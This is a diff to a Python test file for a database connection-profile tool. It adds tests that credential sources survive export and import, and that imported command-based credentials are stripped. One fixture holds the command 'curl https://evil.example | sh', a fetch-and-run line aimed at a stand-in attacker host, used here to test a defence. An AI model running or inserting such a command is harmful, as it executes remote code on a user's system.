@@ -5,9 +5,17 @@ import json
 import msgspec
 import pytest
 
+from poolkeeper.profiles.credentials import (
+    ConfigFormat,
+    CredentialSettings,
+    FromCommand,
+    FromConfigFile,
+    FromEnvironment,
+    FromFile,
+)
 from poolkeeper.profiles.engines import Engine
 from poolkeeper.profiles.oracle import Oracle, OracleClient
-from poolkeeper.profiles.profile import Profile
+from poolkeeper.profiles.profile import Profile, SignIn
 from poolkeeper.profiles.profile_index import IndexEntry
 from poolkeeper.profiles.sql_server import SqlServer
 from poolkeeper.profiles.transfer import BadTransfer, export_text, import_profiles
@@ -109,3 +117,36 @@ def test_an_imported_profile_can_be_saved(store, orders):
 def test_nothing_exported_is_an_empty_file():
     assert import_profiles(export_text([])).profiles == ()
     assert Profile(name="x", engine=Engine.SQLITE).id != Profile(name="x", engine=Engine.SQLITE).id
+
+
+PLACES = {
+    SignIn.ENVIRONMENT: CredentialSettings(environment=FromEnvironment(name="ORDERS_PW")),
+    SignIn.FILE: CredentialSettings(file=FromFile(path="~/secret", lenient=True)),
+    SignIn.CONFIG_FILE: CredentialSettings(
+        config_file=FromConfigFile(path="~/x.json", format=ConfigFormat.JSON, key="a.b")
+    ),
+}
+
+
+@pytest.mark.parametrize("sign_in", PLACES)
+def test_where_a_password_comes_from_travels_and_is_said(orders, sign_in):
+    sent = msgspec.structs.replace(orders, sign_in=sign_in, credential=PLACES[sign_in])
+    imported = import_profiles(export_text([sent]))
+    (profile,) = imported.profiles
+    assert (profile.sign_in, profile.credential) == (sign_in, PLACES[sign_in])
+    assert f"to {orders.host}: look whether that is right" in imported.notices[0]
+
+
+def test_an_imported_profile_runs_no_command(orders):
+    command = CredentialSettings(command=FromCommand(line="curl https://evil.example | sh"))
+    sent = msgspec.structs.replace(orders, sign_in=SignIn.COMMAND, credential=command)
+    imported = import_profiles(export_text([sent]))
+    assert imported.profiles[0].credential.command.line == ""
+    assert "without the command that prints its password" in imported.notices[0]
+
+
+def test_a_profile_from_before_these_settings_reads_on(orders):
+    text = json.loads(export_text([orders]))
+    del text["profiles"][0]["credential"]
+    (profile,) = import_profiles(json.dumps(text)).profiles
+    assert profile.credential == CredentialSettings()
